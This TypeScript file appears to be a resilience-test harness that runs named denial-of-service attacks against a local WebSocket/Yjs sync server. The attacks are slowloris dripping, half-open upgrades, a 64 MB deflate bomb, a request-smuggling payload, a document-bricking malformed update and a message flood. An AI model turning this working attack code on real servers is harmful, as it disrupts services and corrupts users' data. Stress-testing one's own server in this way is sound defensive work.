/** What somebody does who wants a server to themselves, and the program that does it: `attacks.ts NAME PORT MILLISECONDS`. */
import { fileURLToPath } from 'node:url'
import { deflateRawSync } from 'node:zlib'
import type { Frame } from '#shared/frame.ts'
import { WebSocketEnd } from '#tests/carriers/end.ts'
import { clientFrame, RawSocket, upgradeRequest } from '#tests/process/raw-socket.ts'

const BOMB = deflateRawSync(Buffer.alloc(64 << 20))

/** Goes on until `isOver`; whatever it opened is closed by then. */
export interface Target {
  readonly port: number
  readonly url: string
}

export type Attack = (server: Target, isOver: () => boolean) => Promise<void>

const pausing = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms))

async function sockets(server: Target, count: number): Promise<RawSocket[]> {
  const open: RawSocket[] = []
  for (let at = 0; at < count; at += 100)
    open.push(...(await Promise.all(Array.from({ length: 100 }, () => RawSocket.connect(server.port)))))
  return open
}

/** Connections that say one byte of a head each, again and again, and are opened anew where they are cut. */
const dripping =
  (count: number, head: string): Attack =>
  async (server, isOver) => {
    let open = await sockets(server, count)
    for (const raw of open) raw.say(head)
    while (!isOver()) {
      await pausing(250)
      for (const raw of open) if (!raw.socket.destroyed) raw.say('a')
      open = open.filter(({ socket }) => !socket.destroyed)
      const missing = await Promise.all(
        Array.from({ length: count - open.length }, () => RawSocket.connect(server.port)),
      )
      for (const raw of missing) raw.say(head)
      open.push(...missing)
    }
    for (const raw of open) raw.reset()
  }

const halfUpgrade = upgradeRequest('/sync/attacked').slice(0, -2)

/** 64 MB of zeros in 65 KB, compressed as the extension has it, to a server that did not agree to it. */
const bombs: Attack = async (server, isOver) => {
  const bomb = clientFrame({ first: 0xc2, payload: BOMB })
  while (!isOver()) {
    await Promise.all(
      Array.from({ length: 20 }, async () => {
        const raw = await RawSocket.upgrade(server.port, '/sync/attacked', [
          'Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits',
        ])
        raw.say(bomb)
        await raw.ended
      }),
    )
  }
}

const smuggling: Attack = async (server, isOver) => {
  const request =
    'POST /sync/attacked HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n'
  while (!isOver()) {
    const open = await Promise.all(Array.from({ length: 50 }, () => RawSocket.connect(server.port)))
    for (const raw of open) raw.say(request)
    await Promise.all(open.map(({ ended }) => ended))
  }
}

const malformed: Attack = async (server, isOver) => {
  const update = new Uint8Array(Buffer.from('000101016affffffffffffff8f02', 'hex'))
  while (!isOver()) {
    await Promise.all(
      Array.from({ length: 20 }, async () => {
        const end = new WebSocketEnd({ url: server.url, document: 'attacked' })
        await end.next('step2')
        end.send({ type: 'update', update })
        await end.ended
      }),
    )
  }
}

const questions: Attack = async (server, isOver) => {
  const ends = Array.from({ length: 10 }, () => new WebSocketEnd({ url: server.url, document: 'attacked' }))
  await Promise.all(ends.map((end) => end.next('step2')))
  const question: Frame = { type: 'step1', stateVector: Uint8Array.of(0) }
  while (!isOver()) {
    for (const end of ends) end.send(...Array.from({ length: 50 }, () => question))
    await pausing(20)
  }
  for (const end of ends) end.cut()
}

export const attacks: Readonly<Record<string, Attack>> = {
  'slowloris: 500 heads, a byte at a time': dripping(
    500,
    'GET /sync/attacked HTTP/1.1\r\nHost: a\r\nX-Slow: ',
  ),
  '1,000 half-open upgrades': dripping(1_000, halfUpgrade),
  'compressed bombs': bombs,
  'requests with two ends': smuggling,
  'updates that brick a Yjs document': malformed,
  '25,000 questions a second for a whole document': questions,
}

const [name = '', port = '', ms = ''] = process.argv.slice(2)
const attack = attacks[name]
// Imported for its list: nobody is attacked.
if (attack !== undefined && process.argv[1] === fileURLToPath(import.meta.url)) {
  const until = performance.now() + Number(ms)
  process.stdout.write('begun')
  await attack({ port: Number(port), url: `http://127.0.0.1:${port}` }, () => performance.now() >= until)
}
